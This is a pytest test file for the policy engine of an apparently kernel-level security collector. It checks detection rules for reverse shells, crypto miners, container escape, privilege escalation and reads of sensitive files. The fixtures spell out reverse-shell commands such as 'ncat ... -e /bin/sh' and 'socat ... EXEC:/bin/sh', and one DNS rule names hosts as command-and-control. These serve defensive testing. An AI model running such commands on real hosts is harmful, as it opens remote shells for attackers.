"""Policy engine: file format and errors (file:line: field), selectors, actions, kernel push-down,
sigkill/block translation, rate limits, the config section, `siemhub validate`, and the hot-path cost."""
from __future__ import annotations

import textwrap

import pytest
from click.testing import CliRunner

from siemhub.collector import config, policy
from siemhub.collector.core.event import (EVENT_BASE, Container, Event, File, Network, Node, Pod, Privilege,
                                     Process)

NODE = Node(name="t")
_n = iter(range(1, 10**9))


def proc(binary="/usr/bin/true", args=None, uid=1000, pid=None, ppid=1, **kw) -> Process:
    pid = pid or next(_n) + 1000
    return Process(exec_id=f"x{pid}", pid=pid, ppid=ppid, uid=uid, binary=binary,
                   args=args if args is not None else [binary.rsplit("/", 1)[-1]], **kw)


def ev(type_="process_exec", process=None, parent=None, **kw) -> Event:
    return Event(id=f"e{next(_n)}", time="2026-01-01T00:00:00.000000000Z", type=type_, node=NODE,
                 process=process or proc(), parent=parent, **EVENT_BASE, **kw)


def fev(path, op="open", flags=("O_RDONLY",), binary="/usr/bin/cat", **kw) -> Event:
    return ev("file_access", proc(binary), file=File(operation=op, path=path, flags=list(flags)), **kw)


def no_block():
    return False, "test: no BPF LSM"


def engine_from(tmp_path, *texts) -> policy.PolicyEngine:
    for i, t in enumerate(texts):
        (tmp_path / f"p{i}.yaml").write_text(textwrap.dedent(t))
    return policy.PolicyEngine(policy.load_files([str(tmp_path)]), block_support=no_block)


@pytest.fixture(scope="module")
def library():
    return policy.PolicyEngine(policy.load_files([policy.library_dir()]), block_support=no_block)


def actions(engine, *events):
    out = engine.apply(list(events))
    return [(e.policy.policy, e.policy.rule) for e in out if e.type == "policy_action"]


# --- file format ---------------------------------------------------------------------------------


def test_unknown_key_and_bad_action_name_file_line_field(tmp_path):
    (tmp_path / "bad.yaml").write_text("name: x\ndescription: d\nrules:\n  - match: {types: [process_exec]}\n"
                                       "    action: post\n    colour: red\n  - match: {binaries: [a]}\n    action: explode\n")
    with pytest.raises(policy.PolicyError) as err:
        policy.load_files([str(tmp_path)])
    lines = err.value.problems
    assert f"{tmp_path}/bad.yaml:6: rules[0].colour: unknown field" in lines
    assert any(line.startswith(f"{tmp_path}/bad.yaml:8: rules[1].action:") for line in lines)


def test_yaml_syntax_error_and_duplicate_names(tmp_path):
    (tmp_path / "a.yaml").write_text("name: [unclosed\n")
    with pytest.raises(policy.PolicyError, match=r"a.yaml:\d+: YAML syntax error"):
        policy.load_files([str(tmp_path / "a.yaml")])
    body = "name: same\ndescription: d\nrules: [{match: {binaries: [x]}, action: post}]\n"
    (tmp_path / "b.yaml").write_text(body)
    (tmp_path / "c.yaml").write_text(body)
    with pytest.raises(policy.PolicyError, match=r"c.yaml:1: name: policy 'same' is also defined in .*b.yaml"):
        policy.load_files([str(tmp_path / "b.yaml"), str(tmp_path / "c.yaml")])


def test_description_is_optional(tmp_path):
    engine = engine_from(tmp_path, """\
        name: curl-seen
        rules: [{match: {binaries: [curl]}, action: post}]
        """)
    assert actions(engine, ev(process=proc("/usr/bin/curl"))) == [("curl-seen", "rule0")]
    assert actions(engine, ev(process=proc("/usr/bin/wget"))) == []


def test_sigkill_beyond_file_paths_compiles_to_enforce_rules(tmp_path):
    vault = tmp_path / "vault"
    vault.mkdir()
    eng = engine_from(tmp_path, f"""\
        name: k
        rules:
          - name: tmp-exec
            match: {{types: [process_exec], binaries: ["{tmp_path}/*", /bin/sh, nc]}}
            action: sigkill
          - name: vault
            match: {{binaries: [cat], paths: ["{vault}/"], operations: [open_read]}}
            action: sigkill
          - name: imds
            match: {{types: [network_connect], cidrs: [169.254.169.254/32], ports: [80]}}
            action: sigkill
        """)
    kinds = {r.rule: r for r in eng.kernel.enforce}
    assert kinds["tmp-exec"].kind == "exec" and kinds["tmp-exec"].binaries == [f"{tmp_path}/*", "/bin/sh", "nc"]
    assert kinds["vault"].kind == "open" and kinds["vault"].read and not kinds["vault"].write
    assert kinds["imds"].kind == "connect" and kinds["imds"].ports == [80] and kinds["imds"].binaries == []
    assert not eng.kernel.file_enforce  # none of these is the file sensor's
    # the kernel acts and says so: the user-space match only tags the event
    assert actions(eng, ev(process=proc("/bin/sh"))) == []


@pytest.mark.parametrize("rule, why", [
    ("{types: [process_exec], binaries: [/bin/sh], args: [x]}", "by binaries only"),
    ("{cidrs: [10.0.0.0/8]}", "types: \\[network_connect\\]"),
    ("{types: [network_connect], cidrs: [10.0.0.0/8], uids: [0]}", "not with uids"),
    ("{types: [process_exec], binaries: ['xmrig*']}", "name globs cannot be enforced"),
    ("{types: [process_exec], binaries: [a-very-long-binary-name]}", "longer than 15 bytes"),
    ("{types: [process_exec], binaries: [/nonexistent/x]}", "does not exist"),
    ("{paths: [/etc/x], binaries: [cat], operations: [unlink]}", "on opens only"),
    ("{types: [privilege_change], binaries: [cat]}", "enforced in the kernel on file_access paths, process_exec"),
])
def test_sigkill_forms_the_kernel_cannot_enforce_are_refused_with_the_reason(tmp_path, rule, why):
    with pytest.raises(policy.PolicyError, match=rf"p0.yaml:4: rules\[0\].action: .*{why}"):
        engine_from(tmp_path, f"""\
            name: k
            rules:
              - match: {rule}
                action: sigkill
            """)


def test_every_library_policy_loads(library):
    names = {lp.policy.name for lp in library.policies}
    assert names >= {"fim-sensitive-files", "reverse-shell", "unexpected-outbound", "privilege-escalation",
                     "container-escape", "crypto-miner", "kubectl-exec", "serviceaccount-token"}
    assert all(lp.policy.description for lp in library.policies)


# --- the library: positive and negative per policy -------------------------------------------------


def test_fim(library):
    assert actions(library, fev("/etc/shadow")) == [("fim-sensitive-files", "shadow-read")]
    assert actions(library, fev("/etc/shadow", binary="/usr/sbin/unix_chkpwd")) == []
    assert actions(library, fev("/etc/passwd", flags=["O_WRONLY"])) == [("fim-sensitive-files", "account-database-write")]
    assert actions(library, fev("/etc/passwd")) == []  # everybody reads it
    assert actions(library, fev("/etc/sudoers.d/evil", op="rename")) == [("fim-sensitive-files", "sudoers-write")]
    assert actions(library, fev("/root/.ssh/authorized_keys", op="write")) == [("fim-sensitive-files", "ssh-keys-write")]
    assert actions(library, fev("/home/bob/.ssh/authorized_keys", op="write")) == [("fim-sensitive-files", "ssh-keys-write")]
    assert actions(library, fev("/etc/cron.d/job", flags=["O_WRONLY", "O_CREAT"])) == [("fim-sensitive-files", "cron-write")]
    assert actions(library, fev("/etc/ld.so.preload", flags=["O_RDWR"])) == [("fim-sensitive-files", "ld-preload-write")]
    assert actions(library, fev("/etc/systemd/system/x.service", op="write", binary="/usr/bin/vi")) == [
        ("fim-sensitive-files", "systemd-unit-write")]
    assert actions(library, fev("/etc/systemd/system/x.service", op="write", binary="/usr/bin/dpkg")) == []
    assert actions(library, fev("/etc/hosts", op="write")) == []


def test_reverse_shell(library):
    nc = proc("/usr/bin/nc", ["nc", "-lvp", "4444"])
    assert actions(library, ev(process=proc("/bin/bash", ["bash", "-i"]), parent=nc)) == [
        ("reverse-shell", "interactive-shell-from-network-tool")]
    assert actions(library, ev(process=proc("/bin/bash", ["bash", "-i"]), parent=proc("/usr/sbin/sshd"))) == []
    assert actions(library, ev(process=proc("/bin/bash", ["bash", "-c", "ls --ignore x"]), parent=nc)) == []
    assert actions(library, ev(process=proc("/usr/bin/ncat", ["ncat", "10.0.0.1", "4444", "-e", "/bin/sh"]))) == [
        ("reverse-shell", "netcat-exec")]
    assert actions(library, ev(process=proc("/usr/bin/ncat", ["ncat", "-l", "8080"]))) == []
    assert actions(library, ev(process=proc("/usr/bin/socat", ["socat", "tcp:1.2.3.4:9", "EXEC:/bin/sh"]))) == [
        ("reverse-shell", "socat-exec")]
    conn = Network(protocol="tcp", family="ipv4", direction="outbound", destination_ip="1.2.3.4", destination_port=443)
    assert actions(library, ev("network_connect", proc("/usr/bin/bash"), network=conn)) == [
        ("reverse-shell", "shell-outbound-connection")]
    assert actions(library, ev("network_connect", proc("/usr/bin/curl"), network=conn)) == []


def test_unexpected_outbound(library):
    conn = Network(protocol="tcp", family="ipv4", direction="outbound", destination_ip="1.2.3.4", destination_port=80)
    assert actions(library, ev("network_connect", proc("/tmp/.x/implant"), network=conn)) == [
        ("unexpected-outbound", "outbound-from-temp-dirs")]
    assert actions(library, ev("network_connect", proc("/usr/bin/wget"), network=conn)) == []


def test_privilege_escalation(library):
    up = ev("privilege_change", proc("/tmp/exploit"), privilege=Privilege(operation="setuid", old_uid=1000, new_uid=0))
    assert actions(library, up) == [("privilege-escalation", "uid-0-gained")]
    assert actions(library, ev("privilege_change", privilege=Privilege(operation="setuid", old_uid=0, new_uid=0))) == []
    assert actions(library, ev("privilege_change", privilege=Privilege(operation="setuid", old_uid=0, new_uid=33))) == []


def test_container_escape(library):
    c = Container(id="a" * 64, runtime="containerd")
    mount = Privilege(operation="mount", source="/dev/sda1", target="/mnt")
    assert actions(library, ev("privilege_change", proc("/bin/mount", container=c), privilege=mount)) == [
        ("container-escape", "mount-in-container")]
    assert actions(library, ev("privilege_change", proc("/bin/mount"), privilege=mount)) == []  # host
    assert actions(library, ev("privilege_change", privilege=Privilege(operation="module_load", name="x.ko"))) == [
        ("container-escape", "module-load")]
    assert actions(library, fev("/proc/sys/kernel/core_pattern", flags=["O_WRONLY"])) == [("container-escape", "proc-sys-write")]
    assert actions(library, fev("/proc/sys/kernel/core_pattern")) == []


def test_crypto_miner(library):
    assert actions(library, ev(process=proc("/tmp/xmrig", ["xmrig"]))) == [("crypto-miner", "miner-binary")]
    assert actions(library, ev(process=proc("/tmp/sysupdate", ["sysupdate", "-o", "stratum+tcp://pool:3333"]))) == [
        ("crypto-miner", "miner-arguments")]
    assert actions(library, ev(process=proc("/usr/bin/python3", ["python3", "app.py", "--port", "3333"]))) == []


def test_kubectl_exec(library):
    c = Container(id="b" * 64, runtime="containerd")
    e = ev(process=proc("/bin/sh", ["sh"], flags=["namespace_entry"], container=c))
    assert actions(library, e) == [("kubectl-exec", "exec-into-container")]
    assert "kubectl-exec" in e.tags and "policy:kubectl-exec" in e.tags
    assert actions(library, ev(process=proc("/bin/sh", ["sh"], container=c))) == []


def test_serviceaccount_token(library):
    tok = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    assert actions(library, fev(tok)) == [("serviceaccount-token", "token-read")]
    assert actions(library, fev(tok, binary="/usr/bin/kubelet")) == []


# --- actions and selectors -------------------------------------------------------------------------


def test_post_raises_severity_never_lowers_and_tags(tmp_path):
    eng = engine_from(tmp_path, """\
        name: p
        description: d
        rules:
          - {name: r, match: {binaries: [cat]}, action: post, severity: high}
          - {name: low, match: {binaries: [cat]}, action: post, severity: low}
        """)
    e = ev(process=proc("/usr/bin/cat"))
    out = eng.apply([e])
    assert e.severity == "high" and e.tags == ["policy:p"]
    pas = [x for x in out if x.type == "policy_action"]
    assert [(x.policy.rule, x.severity) for x in pas] == [("r", "high"), ("low", "high")]
    assert pas[0].process is e.process and pas[0].policy.action == "post" and pas[0].policy.enforced is False
    e2 = ev(process=proc("/usr/bin/cat"))
    e2.severity = "critical"
    eng.apply([e2])
    assert e2.severity == "critical"


def test_notify_tags_and_rate_limit_counts_suppressed(tmp_path):
    eng = engine_from(tmp_path, """\
        name: n
        description: d
        rules:
          - {match: {binaries: ["/opt/*"]}, action: notify, tags: [team-a], rate_limit: {events: 2, per_seconds: 3600}}
        """)
    out = eng.apply([ev(process=proc("/opt/app/bin")) for _ in range(5)])
    assert sum(e.type == "policy_action" for e in out) == 2
    assert all("team-a" in e.tags for e in out)
    assert eng.counters()["rate_limited"] == 3 and eng.counters()["matched"] == 5


def test_ignore_in_user_space_and_pushdown(tmp_path):
    eng = engine_from(tmp_path, """\
        name: quiet
        description: d
        rules:
          - {match: {binaries: [/usr/bin/noisy]}, action: ignore}
          - {match: {ports: [53]}, action: ignore}
          - {match: {types: [process_exec], binaries: [chatty], uids: [0]}, action: ignore}
        """)
    keep = ev(process=proc("/usr/bin/other"))
    out = eng.apply([ev(process=proc("/usr/bin/noisy")), keep, ev(process=proc("/bin/chatty", uid=0))])
    assert out == [keep] and eng.counters()["ignored"] == 2
    assert eng.kernel.process_binaries == ["/usr/bin/noisy"] and eng.kernel.network_ports == [53]


def test_follow_children_through_ancestors_and_cache(tmp_path):
    eng = engine_from(tmp_path, """\
        name: ci
        description: d
        rules:
          - {match: {types: [process_exec], binaries: [/usr/bin/make], follow_children: true}, action: notify, tags: [build]}
        """)
    make = proc("/usr/bin/make", pid=50, ppid=1)
    sh = proc("/bin/sh", pid=51, ppid=50)
    cc = proc("/usr/bin/cc", pid=52, ppid=51)
    ld = proc("/usr/bin/ld", pid=53, ppid=52)
    assert actions(eng, ev(process=cc, parent=sh, ancestors=[make])) == [("ci", "rule0")]
    assert actions(eng, ev(process=cc, parent=sh)) == []  # nothing above the parent known

    class Cache:
        def get(self, pid):
            return {50: type("E", (), {"proc": make})(), 51: type("E", (), {"proc": sh})()}.get(pid)
    eng.cache = Cache()
    assert actions(eng, ev(process=ld, parent=cc)) == [("ci", "rule0")]
    assert actions(eng, ev(process=proc("/usr/bin/ls", pid=60, ppid=1))) == []


def test_selectors_cidrs_uids_pods_container(tmp_path):
    eng = engine_from(tmp_path, """\
        name: s
        description: d
        rules:
          - {name: net, match: {cidrs: [10.0.0.0/8]}, action: notify}
          - {name: pod, match: {types: [process_exec], namespaces: ["prod-*"], pod_labels: {app: web}, container: true}, action: notify}
        """)
    n = Network(protocol="tcp", family="ipv6", destination_ip="::ffff:10.1.2.3", destination_port=1)
    assert actions(eng, ev("network_connect", network=n)) == [("s", "net")]
    n2 = Network(protocol="tcp", family="ipv4", destination_ip="192.168.1.1", destination_port=1)
    assert actions(eng, ev("network_connect", network=n2)) == []
    c = Container(id="c" * 64)
    web = Pod(namespace="prod-eu", name="w", labels={"app": "web", "x": "y"})
    assert actions(eng, ev(process=proc(container=c, pod=web))) == [("s", "pod")]
    assert actions(eng, ev(process=proc(container=c, pod=Pod(namespace="dev", name="w", labels={"app": "web"})))) == []


def test_sigkill_and_block_become_file_enforce_rules(tmp_path):
    eng = engine_from(tmp_path, """\
        name: guard
        description: d
        rules:
          - {name: secret, match: {paths: [/srv/secret], operations: [open_read]}, action: sigkill}
          - {name: keys, match: {paths: [/srv/keys/]}, action: block}
        """)
    rules = eng.kernel.file_enforce
    assert [(r.path, r.action, r.operations) for r in rules][0] == ("/srv/secret", "sigkill", ["open_read"])
    assert rules[1].path == "/srv/keys/" and rules[1].action == "sigkill" and len(rules[1].operations) == 8
    assert "block: unavailable (test: no BPF LSM), sigkill used instead" in eng.describe()
    # the file sensor's own policy_action is renamed after the policy; no duplicate from the engine
    fa = fev("/srv/secret", tags=["sigkill"])
    from siemhub.collector.core.event import PolicyAction
    pa = ev("policy_action", fa.process, file=fa.file,
            policy=PolicyAction(policy="file.enforce", rule="/srv/secret", action="sigkill", enforced=True, reason="open /srv/secret"))
    out = eng.apply([fa, pa])
    assert len(out) == 2 and out[1].policy.policy == "guard" and out[1].policy.rule == "secret"
    assert "policy:guard" in fa.tags and "policy:guard" in pa.tags


# --- config and CLI --------------------------------------------------------------------------------

BASE = "exporters: {o: {type: stdout}}\nroutes: [{name: a, to: [o]}]\n"


def test_config_section_absent_means_no_policies_and_empty_means_library():
    assert config.parse(BASE).policies is None
    eng = config.parse(BASE + "policies: {}\n").policies
    assert len(eng.policies) >= 8
    eng = config.parse(BASE + "policies: {disabled: [crypto-miner]}\n").policies
    assert "crypto-miner" not in {lp.policy.name for lp in eng.policies}


def test_validate_reports_policy_errors_and_exits_2(tmp_path):
    from siemhub.collector.cli import main

    (tmp_path / "pol").mkdir()
    (tmp_path / "pol" / "x.yaml").write_text("name: x\ndescription: d\nrules:\n  - match: {ports: [99999]}\n    action: post\n")
    cfg = tmp_path / "agent.yaml"
    cfg.write_text(BASE + f"policies: {{library: false, paths: [{tmp_path / 'pol'}]}}\n")
    r = CliRunner().invoke(main, ["validate", "-c", str(cfg)])
    assert r.exit_code == 2
    assert f"{tmp_path}/pol/x.yaml:4: rules[0].match.ports: Value error, ports must be 1-65535" in r.output
    (tmp_path / "pol" / "x.yaml").write_text("name: x\ndescription: d\nrules:\n  - match: {ports: [9]}\n    action: post\n")
    r = CliRunner().invoke(main, ["validate", "-c", str(cfg)])
    assert r.exit_code == 0 and "policies: 1 policies, 1 rules" in r.output


def test_pipeline_applies_policies_after_redaction(tmp_path):
    from siemhub.collector.agent import Pipeline

    cfg = config.parse(f"exporters: {{o: {{type: file, path: {tmp_path}/o.jsonl}}}}\nroutes: [{{name: a, to: [o]}}]\n"
                       "policies: {}\n")
    p = Pipeline(cfg)
    p.policies = cfg.policies
    p.start()
    p.emit([ev(process=proc("/tmp/xmrig", ["xmrig", "--password=hunter2"]))])
    p.stop(5)
    text = (tmp_path / "o.jsonl").read_text()
    assert '"policy_action"' in text and "hunter2" not in text and "policy:crypto-miner" in text


# --- cost ------------------------------------------------------------------------------------------


def test_events_that_match_nothing_pass_through_uncopied(library):
    """The hot path (its cost is measured in bench/policy_cost.py): with the whole library loaded,
    events that match no policy come back as the same list, untouched."""
    events = [ev(process=proc(f"/usr/bin/tool{i % 50}", [f"tool{i % 50}", "--flag", "value", f"/some/path/{i}"]),
                 parent=proc("/usr/bin/bash", ["bash"])) for i in range(2000)]
    out = library.apply(events)
    assert out is events  # nothing matched, nothing copied
    assert all(not e.tags for e in events)


def test_policy_counters_are_prometheus_metrics(tmp_path):
    from siemhub.collector import config as config_mod
    from siemhub.collector.agent import Agent

    cfg = config_mod.parse(
        f"exporters: {{out: {{type: file, path: {tmp_path}/e.jsonl}}}}\nroutes: [{{name: all, to: [out]}}]\n"
        "metrics: {enabled: false}\npolicies: {}\n", "p.yaml")
    agent = Agent(cfg)
    assert agent.metrics.value("siemhub_policy_rules") == len(agent.pipeline.policies.rules) > 0
    assert agent.metrics.value("siemhub_policy_matched_total") == 0


def test_dns_names_match_the_name_and_below(tmp_path):
    eng = engine_from(tmp_path, """\
        name: d
        description: d
        rules:
          - {name: c2, match: {dns_names: [Evil.Example., pastebin.com]}, action: post, severity: high}
        """)
    (cr,) = eng.rules
    assert cr.types == ("dns_query",)

    def q(name):
        return ev("dns_query", network=Network(protocol="udp", family="ipv4", destination_ip="127.0.0.53",
                                               destination_port=53, dns_query=name))
    for hit in ("evil.example", "a.b.EVIL.example", "pastebin.com"):
        out = eng.apply([e := q(hit)])
        assert [x.policy.rule for x in out if x.type == "policy_action"] == ["c2"], hit
        assert e.severity == "high" and "policy:d" in e.tags
        assert out[-1].policy.reason.startswith("/usr/bin/true: dns_query " + hit)
    for miss in ("notevil.example", "example", "evil.example.net", "pastebin.com.evil.net",
                 "x\\.pastebin.com", None):
        assert actions(eng, q(miss)) == [], miss
    assert actions(eng, q("x\\\\.pastebin.com")) == [("d", "c2")]  # an escaped backslash, then a real dot
    assert actions(eng, ev("network_connect", network=Network(protocol="tcp", family="ipv4"))) == []


def test_dns_names_are_validated_and_ports_cover_dns_queries(tmp_path):
    with pytest.raises(policy.PolicyError, match=r"p0.yaml:4: rules\[0\].match.dns_names: .*'\*.example.com'"):
        engine_from(tmp_path, """\
            name: d
            description: d
            rules:
              - {match: {dns_names: ["*.example.com"]}, action: post}
            """)
    (tmp_path / "p0.yaml").unlink()
    eng = engine_from(tmp_path, """\
        name: q
        description: d
        rules:
          - {match: {cidrs: [10.0.0.0/8]}, action: ignore}
          - {match: {types: [network_connect, network_accept, network_close], ports: [5353]}, action: ignore}
        """)
    # a cidrs-only ignore covers every network type, DNS queries included: pushed into the kernel, whose
    # filter drops all of them; an explicit list without dns_query stays in user space
    assert eng.kernel.network_cidrs == ["10.0.0.0/8"] and eng.kernel.network_ports == []
    dns = ev("dns_query", network=Network(protocol="udp", family="ipv4", destination_ip="10.1.1.1",
                                          destination_port=53, dns_query="x.corp"))
    assert eng.apply([dns]) == []


def test_install_is_all_or_nothing_across_sensors():
    """Three sensors; the last one refuses: at check time nothing is applied, at apply time the first two
    get back what the previous install gave them. The fakes merge settings with the real sensors' hooks."""
    from types import SimpleNamespace

    from siemhub.collector.sensors import Sensors
    from siemhub.collector.sensors.file import FileSensor
    from siemhub.collector.sensors.network import NetworkSensor
    from siemhub.collector.sensors.process import ProcessSensor

    class Fake:
        def __init__(self, real):
            self.name, self.real, self.applied, self.refuse = real.name, real, [], None

        def kernel_settings(self, config, k):
            return self.real.kernel_settings(self, config, k)

        def check_kernel_settings(self, *args):
            if self.refuse == "check":
                raise ValueError("no")

        def apply_kernel_settings(self, *args):
            if self.refuse == "set":
                raise ValueError("kernel said no")
            self.applied.append(args)

    def cfg(n):
        ig = SimpleNamespace(binaries=[f"/b{n}"], cgroups=[], cidrs=[f"10.{n}.0.0/16"], ports=[n], loopback=False)
        return SimpleNamespace(sensors=Sensors(process=SimpleNamespace(ignore=ig), network=SimpleNamespace(ignore=ig),
                                               file=SimpleNamespace(watch=[f"/w{n}"], enforce=[], watch_writes=[])))
    sensors = [Fake(ProcessSensor), Fake(NetworkSensor), Fake(FileSensor)]
    policy.install(sensors, cfg(1), None)
    first = [s.applied[-1] for s in sensors]
    assert first[1] == (["10.1.0.0/16"], [1], False) and first[2] == (["/w1"], [], [])

    sensors[2].refuse = "check"
    with pytest.raises(ValueError, match="sensor file: no"):
        policy.install(sensors, cfg(2), None)
    assert [len(s.applied) for s in sensors] == [1, 1, 1]

    sensors[2].refuse = "set"
    with pytest.raises(ValueError, match="sensor file: kernel said no"):
        policy.install(sensors, cfg(3), None)
    assert [s.applied[-1] for s in sensors[:2]] == first[:2]  # applied (3), then restored (1)
    assert [len(s.applied) for s in sensors] == [3, 3, 1]

    sensors[2].refuse = None
    policy.install(sensors, cfg(4), None)
    assert sensors[2].applied[-1] == (["/w4"], [], [])


def test_change_only_file_rules_watch_their_paths_for_changes_only(library):
    """container-escape's /proc/sys rule names only changes: /proc/sys/ is watched for changes (reads
    there are constant and never reach user space); a rule that names reads is a full watch."""
    k = library.kernel
    assert "/proc/sys/" in k.file_watch_writes
    assert "/proc/sys/" not in k.file_watch
    assert not [p for p in k.file_watch if p.startswith("/proc/")]
    assert "/etc/shadow" in k.file_watch  # fim-sensitive-files reads of /etc/shadow
